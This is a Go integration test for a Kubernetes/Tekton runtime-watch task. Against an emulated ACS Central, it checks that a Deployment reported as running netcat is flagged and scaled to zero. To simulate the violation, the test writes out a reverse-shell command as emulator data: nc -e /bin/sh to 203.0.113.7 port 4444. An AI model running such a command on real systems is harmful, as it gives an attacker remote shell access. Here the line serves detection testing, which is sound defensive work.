package pods

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/modelguard/modelguard/pkg/guard"
	"github.com/modelguard/modelguard/test/acsemulator"
	pipelinev1 "github.com/tektoncd/pipeline/pkg/apis/pipeline/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
)

// acs-runtime-watch in a pod, under its sample RBAC, against the ACS
// Central emulator (a test double): a quiet Deployment passes after the
// window, one whose container ran netcat fails at once and is scaled to
// zero, and one Central never reported is inconclusive (exit 1).
func testACSRuntimeWatch(t *testing.T) {
	central := startCentral(t)
	pipelines, serving := namespace(t, "watch-pipelines"), namespace(t, "watch-serving")
	handOver(t, serving, pipelines)
	sampleRBAC(t, "acs-runtime-watch", map[string]string{"model-pipelines": pipelines, "model-serving": serving})
	applyTask(t, pipelines, "acs-runtime-watch")
	secret := secretWorkspace("acs-secret", acsSecret(t, pipelines, central, centralToken))

	quiet := servingWorkload(t, central, serving, "quiet", true)
	netcat := servingWorkload(t, central, serving, "netcat", true)
	servingWorkload(t, central, serving, "ghost", false)
	if err := central.Exec(acsemulator.Process{DeploymentUID: string(netcat.UID), Container: "server", ExecPath: "/usr/bin/nc", Args: "-e /bin/sh 203.0.113.7 4444"}); err != nil {
		t.Fatal(err)
	}
	watch := func(name, deployment string, extra map[string]string) *pipelinev1.TaskRun {
		params := map[string]string{"namespace": serving, "deployment": deployment, "window": "5s", "grace": "2s", "poll": "1s"}
		for k, v := range extra {
			params[k] = v
		}
		return taskRun{name: name, params: params, serviceAccount: "acs-runtime-watch",
			arrays:     map[string][]string{"allow-processes": {"server:/usr/bin/modelguard"}},
			workspaces: []pipelinev1.WorkspaceBinding{secret, emptyDirWorkspace("report")}}.run(t, pipelines, "acs-runtime-watch")
	}

	tr := watch("quiet", quiet.Name, nil)
	wantDone(t, tr, true, "runtime watch: PASS")
	if result(tr, "verdict") != "pass" || result(tr, "processes-seen") != "1" || result(tr, "gate") != "pass" {
		t.Errorf("quiet results: %+v", tr.Status.Results)
	}

	tr = watch("netcat", netcat.Name, map[string]string{"on-fail": "scale-to-zero"})
	wantDone(t, tr, false, "Netcat Execution Detected", "runtime watch: FAIL (RuntimeViolation)")
	if a := result(tr, "alerts"); result(tr, "verdict") != "fail" || !strings.Contains(a, `policy="Netcat Execution Detected"`) || !strings.Contains(a, "process=server:/usr/bin/nc") {
		t.Errorf("netcat results: %+v", tr.Status.Results)
	}
	d, err := env.kube.AppsV1().Deployments(serving).Get(context.Background(), netcat.Name, metav1.GetOptions{})
	if err != nil || *d.Spec.Replicas != 0 {
		t.Errorf("netcat after the rollback: %v replicas (%v)", d.Spec.Replicas, err)
	}

	tr = watch("ghost", "ghost", nil)
	wantDone(t, tr, false, "DeploymentNotSeen")
	if result(tr, "verdict") != "inconclusive" || result(tr, "gate") != "error" {
		t.Errorf("ghost results: %+v", tr.Status.Results)
	}
}

// handOver is what a cluster admin does to let the runs of namespace from
// act in ns: the NamespaceGuard opt-in, bound to from's UID.
func handOver(t *testing.T, ns, from string) {
	t.Helper()
	src, err := env.kube.CoreV1().Namespaces().Get(context.Background(), from, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	patch := fmt.Sprintf(`{"metadata":{"labels":{%q:%q},"annotations":{%q:%q}}}`, guard.OptInLabel, from, guard.OptInUIDAnnotation, src.UID)
	if _, err := env.kube.CoreV1().Namespaces().Patch(context.Background(), ns, types.MergePatchType, []byte(patch), metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
}

// servingWorkload creates a Deployment (it need not run: the watch reads
// what Central reports) and, when known, reports it and its server process
// to the emulated Sensor.
func servingWorkload(t *testing.T, central *acsemulator.Server, ns, name string, known bool) *appsv1.Deployment {
	t.Helper()
	// Two replicas that no node takes: the watch and its rollback act on
	// the Deployment object; its pods would only cost the node CPU.
	d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: appsv1.DeploymentSpec{
		Replicas: ptr.To[int32](2),
		Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": name}},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": name}},
			Spec: corev1.PodSpec{NodeSelector: map[string]string{"modelguard.dev/test-no-such-node": "true"},
				Containers: []corev1.Container{{Name: "server", Image: env.modelguard, Command: []string{"modelguard", "serve"}}}}},
	}}
	d, err := env.kube.AppsV1().Deployments(ns).Create(context.Background(), d, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if known {
		w := acsemulator.Workload{UID: string(d.UID), Name: name, Namespace: ns, Containers: []acsemulator.WorkloadContainer{{Name: "server", Image: env.modelguard}}}
		if err := central.AddDeployment(w); err != nil {
			t.Fatal(err)
		}
		if err := central.Exec(acsemulator.Process{DeploymentUID: w.UID, Container: "server", ExecPath: "/usr/bin/modelguard", Args: "serve"}); err != nil {
			t.Fatal(err)
		}
	}
	return d
}
